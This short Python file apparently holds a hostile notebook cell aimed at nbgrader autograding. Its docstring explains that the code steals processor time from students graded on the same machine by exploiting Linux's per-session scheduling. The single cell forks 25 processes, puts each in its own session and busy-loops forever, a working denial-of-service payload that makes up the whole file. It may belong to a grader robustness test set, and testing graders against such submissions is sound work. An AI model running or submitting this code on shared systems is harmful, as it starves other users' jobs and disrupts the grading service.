"""Takes the processor from whoever is graded beside it: Linux shares it among sessions first.

Stock nbgrader: each of these processes weighs as much as the whole of another student's work.
"""

CELLS = {
    "extra first cell": """
import os

for _ in range(25):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
while True:
    pass
"""
}
